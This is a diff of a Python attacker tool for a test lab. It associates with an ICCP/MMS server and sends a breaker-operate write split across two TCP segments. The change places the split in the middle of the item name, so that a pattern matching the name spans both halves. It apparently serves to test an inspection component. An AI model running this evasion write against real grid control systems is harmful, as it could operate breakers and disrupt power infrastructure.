@@ -1,13 +1,13 @@
 """ICCP split-write attacker for tests: a genuine association (COTP CR, session CONNECT
 with ACSE AARQ + MMS initiate), then an MMS write of the breaker split in two TCP segments.
 
-    python -m lab.iccp.attack --dst IP [--port 102] [--split 40] [--pause 1.0]
+    python -m lab.iccp.attack --dst IP [--port 102] [--split item|N] [--pause 1.0]
                               [--wait-signal] [--ready-file F] --out attack.json
 
 The association bytes are the real pyiec61850 (libiec61850) client's, as recorded in
 tests/golden/iccp_session.pcap (a unit test checks they match and decode as CR and
 CN/AARQ/initiate).  The write PDU is built with inspection.iccp.frames (asn1tools).  After
-the first ``--split`` bytes the attacker pauses ``--pause`` s, or with ``--wait-signal``
+the first ``--split`` bytes (default: to the middle of the item name) the attacker pauses ``--pause`` s, or with ``--wait-signal``
 until SIGUSR1; ``--ready-file`` is written when the first half is out.  The report says
 whether the server answered the write, or the connection was reset / closed / went silent.
 """
@@ -46,6 +46,16 @@ def breaker_write(item: str = BREAKER_OPER, domain: str = DOMAIN, close: bool = 
     return iccp_dt(mms_write(WRITE_INVOKE_ID, domain, item, spc_oper(close, b"attacker")))
 
 
+def item_split(pdu: bytes, item: str = BREAKER_OPER) -> int:
+    """The split point in the middle of the item name (a pattern on it spans both halves)."""
+    at = pdu.find(item.encode())
+    return at + len(item) // 2 if at >= 0 else len(pdu) // 2
+
+
+def _split(arg: str) -> int | None:
+    return None if arg == "item" else int(arg)
+
+
 class _Reader:
     """Reads the server's TPKTs through the ICCP decoder (so the answer is named)."""
 
@@ -79,11 +89,12 @@ def _outcome(e: OSError) -> str:
     return f"error {errno.errorcode.get(e.errno or 0, type(e).__name__)}"
 
 
-def run_attack(dst: str, port: int, split: int, between: Callable[[], None],
+def run_attack(dst: str, port: int, split: int | None, between: Callable[[], None],
                timeout: float = 3.0, item: str = BREAKER_OPER) -> dict[str, Any]:
-    """Associate, send the write in two segments (``between`` runs in the middle)."""
+    """Associate, send the write in two segments (``between`` runs in the middle);
+    ``split`` None: in the middle of the item name."""
     pdu = breaker_write(item)
-    split = max(1, min(split, len(pdu) - 1))
+    split = max(1, min(item_split(pdu, item) if split is None else split, len(pdu) - 1))
     rep: dict[str, Any] = {"tool": "iccp-attack", "dst": dst, "port": port, "item": item,
                            "pdu_len": len(pdu), "split": split, "associated": False,
                            "first_half_at": None, "second_half_at": None,
@@ -144,7 +155,9 @@ def main(argv: Sequence[str] | None = None) -> int:
                                 description=__doc__.split("\n")[0])
     p.add_argument("--dst", required=True)
     p.add_argument("--port", type=int, default=102)
-    p.add_argument("--split", type=int, default=40, help="bytes of the write PDU sent first")
+    p.add_argument("--split", type=_split, default=None,
+                   help="bytes of the write PDU sent first, or 'item' (default): the middle "
+                        "of the item name")
     p.add_argument("--pause", type=float, default=1.0, help="pause between the halves (s)")
     p.add_argument("--wait-signal", action="store_true",
                    help="send the second half on SIGUSR1 instead of after --pause")
